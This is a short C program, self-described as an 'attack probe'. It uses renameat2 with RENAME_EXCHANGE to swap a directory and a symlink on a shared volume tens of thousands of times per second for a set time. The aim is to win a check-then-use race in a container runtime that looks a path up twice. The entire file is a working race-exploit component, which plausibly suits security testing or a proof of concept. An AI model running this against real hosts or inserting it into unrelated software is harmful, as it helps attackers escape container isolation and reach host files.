/* Attack probe: swap two names in a shared volume as fast as possible with
 * renameat2(RENAME_EXCHANGE), so a runtime that looks a path up twice
 * (check, then use) sees a directory once and a symlink the other time.
 * Usage: swap A B [SECONDS] (default 300). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    time_t end = time(NULL) + (argc > 3 ? atol(argv[3]) : 300);
    while (time(NULL) < end)
        for (int i = 0; i < 10000; i++)
            syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
    return 0;
}
